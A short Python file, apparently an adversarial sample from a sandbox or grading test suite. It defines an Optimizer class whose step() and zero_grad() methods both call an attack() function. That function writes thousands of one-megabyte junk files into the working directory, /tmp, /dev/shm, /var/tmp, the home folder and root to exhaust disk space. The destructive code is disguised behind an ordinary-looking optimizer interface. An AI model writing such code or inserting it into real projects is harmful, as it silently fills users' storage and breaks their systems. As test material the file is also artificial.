"""Expect: what can be written is small, is nobody else's, and is gone.

Earns: 0
"""

import os


def attack():
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/"):
        for i in range(3000):
            try:
                with open(os.path.join(folder, f"hostile-{i}"), "wb") as file:
                    file.write(bytes(2**20))
            except OSError:
                break


class Optimizer:
    def __init__(self, params, lr):
        self.params = list(params)
        self.lr = lr

    def step(self):
        attack()

    def zero_grad(self):
        attack()
